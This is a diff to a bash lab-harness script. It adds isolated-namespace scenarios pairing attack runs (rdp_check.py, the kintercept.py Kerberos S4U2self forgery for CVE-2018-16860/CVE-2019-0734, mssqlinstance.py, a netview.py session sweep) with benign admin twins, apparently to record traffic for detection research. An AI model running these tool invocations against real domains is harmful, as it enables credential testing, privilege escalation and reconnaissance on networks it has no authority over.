@@ -70,7 +70,8 @@ APACHE=$STATE/apache
 
 ISL_PKGS=(python3-pyasn1 python3-pyasn1-modules python3-pycryptodome python3-ldap3 python3-flask
           python3-openssl python3-six python3-charset-normalizer python3-ldapdomaindump python3-dnspython
-          python3-cryptography python3-requests-ntlm python3-winrm apache2 libapache2-mod-auth-gssapi gss-ntlmssp curl git)
+          python3-cryptography python3-requests-ntlm python3-winrm apache2 libapache2-mod-auth-gssapi gss-ntlmssp curl git
+          freerdp2-shadow-x11 freerdp2-x11 winpr-utils xvfb)
 
 # ---------------------------------------------------------------- Impacket versions
 impacket_source() {
@@ -373,6 +374,14 @@ ISL_SCENARIOS=(
   "ben_admin_epmlookup|benign|-|none|an admin on ws01 lists dc1's endpoint map with Samba's rpcclient (epmlookup: every-entry ept_lookup, one entry per call, over \\pipe\\epmapper)"
   "atk_checkMSSQLStatus|attack|014|impacket_fingerprint|checkMSSQLStatus.py -windows-auth da_carol against the lab TDS responder with login-only encryption: PRELOGIN, then two NTLM logins, the first with the real channel binding token, the second with an empty one (extended-protection probe)"
   "atk_mimikatz|attack|010 014|mimikatz_rpc|mimikatz.py (Administrator): ept_map for mimikatz's RPC interface 17fc11e9-c258-4b8d-8d07-2f4125156244 over \\pipe\\epmapper, then on 135 (no mimikatz RPC server in the lab: not registered)"
+  "atk_rdp_check|attack|010 014|optional|rdp_check.py (alice) to dc1:3389, first with her password, then a wrong one: X.224 connection request with RDP_NEG_REQ (PROTOCOL_HYBRID + PROTOCOL_SSL), TLS, CredSSP TSRequests with NTLM NEGOTIATE/AUTHENTICATE inside TLS (lab RDP server: FreeRDP's shadow server, NLA against a SAM file); it stops after the CredSSP answer"
+  "ben_rdp_xfreerdp|benign|-|none|alice on ws01 connects to dc1:3389 with Debian's FreeRDP client xfreerdp /sec:nla: once +auth-only, once an 8-second desktop session (lab RDP server: FreeRDP's shadow server, NLA against a SAM file)"
+  "ben_rdp_xfreerdp_badpw|benign|-|none|alice on ws01 connects to dc1:3389 with xfreerdp /sec:nla +auth-only, first with a wrong password (refused in CredSSP), then with hers (lab RDP server: FreeRDP's shadow server, NLA against a SAM file)"
+  "atk_kintercept|attack|010 014|s4u_delegation_abuse|kintercept.py on the attacker (10.99.0.2:88, request handler s4u2else:Administrator, reply handler tgs-rep-user:alice) between svc_web on ws01 (getST.py -spn cifs/dc1 -impersonate alice with the attacker as its KDC) and dc1:88: both legs; the S4U2self TGS-REQ reaches dc1 with PA-FOR-USER Administrator and an unkeyed CRC32 checksum (CVE-2018-16860 / CVE-2019-0734), Samba answers KDC_ERR_SUMTYPE_NOSUPP (kintercept.py ported to Python 3 by lab/tools/kintercept_py3.py)"
+  "atk_mssqlinstance|attack|010 014|optional|mssqlinstance.py 10.99.0.3: SQL Server Browser request CLNT_UCAST_EX (one byte 0x03) to UDP 1434 of ws01, answered SVR_RESP with two instances (lab imitation of the SQL Browser: tools/sqlbrowser_responder.py)"
+  "ben_sql_browser_tsql|benign|-|none|an admin on dc1 lists the SQL instances of ws01 with FreeTDS (tsql -L -H: CLNT_UCAST_EX), then connects to the named instance REPORTING (CLNT_UCAST_INST, then TCP to its port, where no server listens) (lab imitation of the SQL Browser: tools/sqlbrowser_responder.py)"
+  "atk_netview_sweep|attack|010 014|rpc_enumeration|netview.py -targets (dc1 and four file servers ws01-ws04, standalone Samba) -delay 5 (alice), stopped after 40 s: TCP probes of 445, then per host SRVSVC NetrSessionEnum level 10 and WKSSVC NetrWkstaUserEnum level 1, repeated each round"
+  "ben_admin_sessions_two|benign|-|none|an admin on ws01 lists sessions, shares and server info of two servers (dc1 and the file server ws02) with rpcclient (srvinfo, netsessenum, netshareenumall)"
   "atk_dpapidump|attack|014|impacket_fingerprint|dpapidump.py (Administrator): DCOM activation of WMI on 135 for its SCCM query (Samba has no DCOM: the bind is rejected), then SMB opens of the SYSTEM profile's Credentials folders on C\$ (absent: 'Nothing to decrypt', so it stops before the remote-registry step)"
 )
 
@@ -784,6 +793,226 @@ sc_atk_mimikatz() {
 }
 sc_atk_dpapidump() { X dpapidump ak $(imp dpapidump) "$ADMW@$DC_IP" || true; }
 
+# --- RDP: FreeRDP's shadow server on dc1 (10.99.0.1:3389) sharing a virtual X display, NLA only
+# (CredSSP with NTLM, checked against a SAM file of NT hashes made by winpr-hash), the way a
+# Windows host with "require Network Level Authentication" answers. Started per scenario, ended by
+# its PIDs. The X displays are private to the lab (:73 the server's screen, :74 ws01's client).
+RDP_DIR=$STATE/rdp RDP_PIDS=()
+rdp_start() {
+  load_secrets
+  mkdir -p "$RDP_DIR"
+  local u
+  # the account as rdp_check.py (lab.test), xfreerdp (LAB) and a bare name send it
+  for u in "LAB" "$D" ""; do
+    winpr-hash -u alice -p "$ALICE_PW" ${u:+-d "$u"} -f sam
+    winpr-hash -u Administrator -p "$ADMIN_PW" ${u:+-d "$u"} -f sam
+  done > "$RDP_DIR/sam"
+  chmod 600 "$RDP_DIR/sam"
+  ip netns exec $NS_DC Xvfb :73 -screen 0 800x600x24 -nolisten tcp > "$RDP_DIR/xvfb-dc.log" 2>&1 &
+  RDP_PIDS+=($!)
+  sleep 1
+  # the shadow server keeps its TLS certificate under $HOME/.config/freerdp
+  ip netns exec $NS_DC env HOME="$RDP_DIR" DISPLAY=:73 freerdp-shadow-cli "/bind-address:$DC_IP" /port:3389 \
+    /sec:nla "/sam-file:$RDP_DIR/sam" +auth > "$PWD/rdp_server.log" 2>&1 &
+  RDP_PIDS+=($!)
+  local i; for i in $(seq 1 40); do indc ss -Hltn | grep -q "$DC_IP:3389 " && break; sleep 0.25; done
+  indc ss -Hltn | grep -q "$DC_IP:3389 " || die "the RDP server did not listen on $DC_IP:3389 (see rdp_server.log)"
+}
+rdp_client_display() {  # an X display for Debian's RDP client on ws01
+  ip netns exec $NS_VIC Xvfb :74 -screen 0 800x600x24 -nolisten tcp > "$RDP_DIR/xvfb-ws01.log" 2>&1 &
+  RDP_PIDS+=($!)
+  sleep 1
+}
+rdp_stop() {
+  local pid
+  for pid in "${RDP_PIDS[@]}"; do kill -TERM "$pid" 2>/dev/null || true; done
+  for pid in "${RDP_PIDS[@]}"; do wait "$pid" 2>/dev/null || true; done
+  RDP_PIDS=()
+  echo "---- rdp_server.log"; grep -E 'ERROR|LOGON|denied|verification' "$PWD/rdp_server.log" || true
+}
+sc_atk_rdp_check() {
+  rdp_start
+  X rdp_check-valid ak $(imp rdp_check) "$D/alice:$ALICE_PW@$DCFQDN" || true
+  X rdp_check-wrong ak $(imp rdp_check) "$D/alice:Wrong.Passw0rd!@$DCFQDN" || true
+  rdp_stop
+}
+sc_ben_rdp_xfreerdp() {
+  rdp_start
+  rdp_client_display
+  X xfreerdp-auth-only vic env HOME="$PWD" DISPLAY=:74 xfreerdp "/v:$DCFQDN" /u:alice /d:LAB "/p:$ALICE_PW" /sec:nla \
+    /cert:ignore +auth-only || true
+  # a short desktop session; it ends when the timeout stops the client
+  X xfreerdp-session vic env HOME="$PWD" DISPLAY=:74 timeout -s INT 8 xfreerdp "/v:$DCFQDN" /u:alice /d:LAB "/p:$ALICE_PW" \
+    /sec:nla /cert:ignore /size:800x600 || true
+  rdp_stop
+}
+
+# --- kintercept.py: the victim's Kerberos routed through the attacker. The service svc_web on ws01
+# asks for S4U2self (getST.py -impersonate alice, then S4U2proxy) from a "KDC" at the attacker's
+# address (standing in for an ARP/DNS hijack); kintercept.py forwards every record to dc1:88,
+# replacing the PA-FOR-USER of the S4U2self TGS-REQ by Administrator with an unkeyed CRC32 checksum
+# (CVE-2018-16860 / CVE-2019-0734) and the cname of the TGS-REP by alice. kintercept.py does not run
+# under Python 3 in either version; tools/kintercept_py3.py ports the lines that break, first.
+KINT_PID=
+sc_atk_kintercept() {
+  local src; src=$(imp kintercept); src=${src##* }
+  X port-py3 /usr/bin/python3 "$TOOLS/kintercept_py3.py" "$src" "$PWD/kintercept.py" || return 1
+  local cmd; cmd="$(imp kintercept)"
+  cmd="${cmd% *} $PWD/kintercept.py --listen-addr $ATK_IP --request-handler s4u2else:Administrator --reply-handler tgs-rep-user:alice $DC_IP"
+  printf '+ [kintercept] (background) ak %s\n' "$cmd"
+  # shellcheck disable=SC2086
+  ip netns exec $NS_ATK timeout -k 5 "$TOOL_TO" $cmd > kintercept.log 2>&1 < /dev/null &
+  KINT_PID=$!
+  local i; for i in $(seq 1 40); do ip netns exec $NS_ATK ss -Hltn | grep -q "$ATK_IP:88 " && break; sleep 0.25; done
+  export COMPAT=1
+  X getST-via-kintercept vic $(imp getST) -spn "cifs/$DCFQDN" -impersonate alice -dc-ip "$ATK_IP" "$KD/svc_web:$WEB_PW" || true
+  sleep 1
+  kill -TERM "$KINT_PID" 2>/dev/null || true; wait "$KINT_PID" 2>/dev/null || true; KINT_PID=
+  echo "---- kintercept output"; cat kintercept.log
+}
+
+# --- SQL Server Browser ([MC-SQLR], UDP 1434) on ws01: Debian has none, so the lab's imitation
+# (tools/sqlbrowser_responder.py) answers with two instances; the clients' requests are real.
+SQLB_PID=
+sqlbrowser_start() {
+  ip netns exec $NS_VIC /usr/bin/python3 "$TOOLS/sqlbrowser_responder.py" --listen "$VIC_IP" --server SQL01 \
+    --instance MSSQLSERVER:1433:1434 --instance REPORTING:49712 > "$PWD/sqlbrowser.log" 2>&1 &
+  SQLB_PID=$!
+  local i; for i in $(seq 1 40); do ip netns exec $NS_VIC ss -Hlun | grep -q "$VIC_IP:1434 " && break; sleep 0.25; done
+}
+sqlbrowser_stop() {
+  kill -TERM "$SQLB_PID" 2>/dev/null || true; wait "$SQLB_PID" 2>/dev/null || true; SQLB_PID=
+  echo "---- sqlbrowser_responder.log"; cat "$PWD/sqlbrowser.log"
+}
+sc_atk_mssqlinstance() {
+  sqlbrowser_start
+  X mssqlinstance ak $(imp mssqlinstance) "$VIC_IP" || true
+  sqlbrowser_stop
+}
+sc_ben_sql_browser_tsql() {
+  sqlbrowser_start
+  printf '[sql01]\n\thost = %s\n\tinstance = REPORTING\n\ttds version = 7.4\n' "$VIC_IP" > freetds.conf
+  X tsql-list indc timeout 20 tsql -L -H "$VIC_IP" < /dev/null || true
+  X tsql-instance indc timeout 20 env FREETDSCONF="$PWD/freetds.conf" tsql -S sql01 -U "$DOMAIN\\alice" -P "$ALICE_PW" < /dev/null || true
+  sqlbrowser_stop
+}
+
+# --- file servers for netview.py's sweep: ws01 (its own namespace) and ws02-ws04 (namespaces of their
+# own, veths on br0 like dc2) each run a standalone Samba smbd sharing one folder. Domain accounts are
+# not known there (standalone servers): alice and Administrator log on with the same passwords as local
+# accounts (tdbsam entries of the Unix users daemon and bin, username map), as a workgroup file server
+# with matching local accounts does. smbd runs with _NO_WINBINDD=1 so that it asks the host's files, not
+# the lab DC's winbindd, for Unix identities. SMB3 encryption is off, as on the lab DC (LAB_SMB_ENCRYPT).
+FS_DIR=$STATE/fileservers
+FS_HOSTS=("ws01 $NS_VIC $VIC_IP -" "ws02 labws02 $NET.5 02:00:0a:63:00:05" "ws03 labws03 $NET.6 02:00:0a:63:00:06"
+          "ws04 labws04 $NET.7 02:00:0a:63:00:07")
+fs_ns_up() {  # fs_ns_up NS IP MAC NAME: a namespace with one veth on br0, as dc2_up
+  local ns=$1 ip=$2 mac=$3 name=$4 port=p-$4
+  fs_ns_down "$ns" "$name"
+  ip netns add "$ns"
+  ip netns exec "$ns" sysctl -qw net.ipv6.conf.all.disable_ipv6=1 net.ipv6.conf.default.disable_ipv6=1
+  ip -n "$ns" link set lo up
+  ip -n $NS_SW link add "$port" type veth peer name eth0 netns "$ns"
+  ip -n "$ns" link set eth0 address "$mac"
+  ip -n "$ns" addr add "$ip/24" dev eth0
+  ip netns exec "$ns" ethtool -K eth0 tx off sg off tso off gso off gro off >/dev/null 2>&1 || true
+  ip netns exec $NS_SW ethtool -K "$port" tx off sg off tso off gso off gro off >/dev/null 2>&1 || true
+  ip -n $NS_SW link set "$port" master br0 up
+  ip -n "$ns" link set eth0 up
+  ns_etc "$ns"
+  printf '%s %s.%s %s\n' "$ip" "$name" "$DNSDOM" "$name" >> "/etc/netns/$ns/hosts"
+  if ip -n "$ns" route show default | grep -q .; then die "unexpected default route in $ns"; fi
+}
+fs_ns_down() {  # fs_ns_down NS NAME
+  local ns=$1 name=$2 pid
+  ns_exists "$ns" || return 0
+  for pid in $(ip netns pids "$ns" 2>/dev/null); do kill -TERM "$pid" 2>/dev/null || true; done
+  sleep 1
+  for pid in $(ip netns pids "$ns" 2>/dev/null); do kill -KILL "$pid" 2>/dev/null || true; done
+  ip -n $NS_SW link del "p-$name" 2>/dev/null || true
+  ip netns del "$ns"
+  rm -rf "/etc/netns/$ns"
+}
+fs_smbd_start() {  # fs_smbd_start NAME NS IP
+  local name=$1 ns=$2 ip=$3 d=$FS_DIR/$1
+  rm -rf "$d"; mkdir -p "$d"/{private,lock,state,cache,pid,log,ncalrpc,share}
+  printf 'quarterly figures\n' > "$d/share/report.txt"
+  printf 'daemon = alice\nbin = Administrator\n' > "$d/users.map"
+  {
+    printf '[global]\n'
+    printf '\t%s\n' "netbios name = ${name^^}" "workgroup = $DOMAIN" "server role = standalone server" "security = user" \
+      "username map = $d/users.map" "passdb backend = tdbsam:$d/private/passdb.tdb" "private dir = $d/private" \
+      "lock directory = $d/lock" "state directory = $d/state" "cache directory = $d/cache" "pid directory = $d/pid" \
+      "ncalrpc dir = $d/ncalrpc" "log file = $d/log/log.%m" "log level = 1" "interfaces = $ip" "bind interfaces only = yes" \
+      "disable netbios = yes" "smb ports = 445" "server min protocol = SMB2_02" "server smb encrypt = off" "load printers = no" \
+      "printcap name = /dev/null" "disable spoolss = yes"
+    printf '[share]\n'
+    printf '\t%s\n' "path = $d/share" "read only = yes"
+  } > "$d/smb.conf"
+  printf '%s\n%s\n' "$ALICE_PW" "$ALICE_PW" | _NO_WINBINDD=1 pdbedit -s "$d/smb.conf" -a -u daemon -t >/dev/null
+  printf '%s\n%s\n' "$ADMIN_PW" "$ADMIN_PW" | _NO_WINBINDD=1 pdbedit -s "$d/smb.conf" -a -u bin -t >/dev/null
+  # smbd leads its own process group (no --no-process-group): at exit it signals that group, not ours
+  ip netns exec "$ns" env _NO_WINBINDD=1 smbd --foreground -s "$d/smb.conf" > "$d/smbd.out" 2>&1 &
+  echo $! > "$d/smbd.pid"
+  local i; for i in $(seq 1 40); do ip netns exec "$ns" ss -Hltn | grep -q "$ip:445 " && break; sleep 0.25; done
+  ip netns exec "$ns" ss -Hltn | grep -q "$ip:445 " || die "smbd of $name did not listen on $ip:445 (see $d/smbd.out)"
+}
+fs_up() {
+  local h name ns ip mac
+  for h in "${FS_HOSTS[@]}"; do
+    read -r name ns ip mac <<<"$h"
+    [ "$ns" = "$NS_VIC" ] || fs_ns_up "$ns" "$ip" "$mac" "$name"
+    fs_smbd_start "$name" "$ns" "$ip"
+  done
+}
+fs_down() {  # smbd and its RPC daemon by their PID files; the file servers' own namespaces
+  local h name ns ip mac f
+  for h in "${FS_HOSTS[@]}"; do
+    read -r name ns ip mac <<<"$h"
+    for f in "$FS_DIR/$name/pid/samba-dcerpcd.pid" "$FS_DIR/$name/smbd.pid"; do
+      if [ -f "$f" ]; then kill -TERM "$(tr -dc 0-9 < "$f")" 2>/dev/null || true; fi
+    done
+    [ "$ns" = "$NS_VIC" ] || fs_ns_down "$ns" "$name"
+  done
+  sleep 1
+}
+fs_targets() {  # the sweep's target list: dc1 and the four file servers
+  local h name ns ip mac
+  echo "$DC_IP"
+  for h in "${FS_HOSTS[@]}"; do read -r name ns ip mac <<<"$h"; echo "$ip"; done
+}
+pre_atk_netview_sweep() { fs_up; }
+# netview.py probes port 445 of every target, then enumerates sessions (NetrSessionEnum level 10) and
+# logged-on users (NetrWkstaUserEnum level 1) of the ones that answered, again every -delay seconds.
+# One pass of -noloop probes only every other target (checkMachines removes from the list it walks),
+# so it runs in its loop until stopped, as it is used.
+sc_atk_netview_sweep() {
+  fs_targets > targets.txt
+  echo "+ (targets.txt: $(paste -sd' ' targets.txt))"
+  # shellcheck disable=SC2046
+  X netview-sweep ip netns exec $NS_ATK timeout -s INT -k 5 40 $(imp netview) -targets targets.txt -delay 5 "$D/alice:$ALICE_PW" < /dev/null || true
+}
+post_atk_netview_sweep() { fs_down; }
+pre_ben_admin_sessions_two() { fs_up; }
+sc_ben_admin_sessions_two() {
+  local ip
+  for ip in "$DC_IP" "$NET.5"; do
+    X "rpcclient-$ip" vic rpcclient -s "$CLIENTCONF" -U "$DOMAIN\\Administrator%$ADMIN_PW" -c 'srvinfo; netsessenum; netshareenumall' "$ip" || true
+  done
+}
+post_ben_admin_sessions_two() { fs_down; }
+
+# a user who mistypes her password once, then gets it right (the benign twin of rdp_check.py's wrong password)
+sc_ben_rdp_xfreerdp_badpw() {
+  rdp_start
+  rdp_client_display
+  X xfreerdp-wrong vic env HOME="$PWD" DISPLAY=:74 xfreerdp "/v:$DCFQDN" /u:alice /d:LAB "/p:Wrong.Passw0rd!" /sec:nla \
+    /cert:ignore +auth-only || true
+  X xfreerdp-right vic env HOME="$PWD" DISPLAY=:74 xfreerdp "/v:$DCFQDN" /u:alice /d:LAB "/p:$ALICE_PW" /sec:nla \
+    /cert:ignore +auth-only || true
+  rdp_stop
+}
+
 sc_ben_admin_epmlookup() {
   X rpcclient-epmlookup vic rpcclient -s "$CLIENTCONF" -U "$DOMAIN\\Administrator%$ADMIN_PW" -c 'epmlookup' "$DCFQDN" || true
 }
@@ -891,6 +1120,7 @@ isl_teardown() {
   need_root
   apache_stop || true
   dc2_down
+  fs_down
   bash "$LAB_SH" teardown "$@"
 }
 
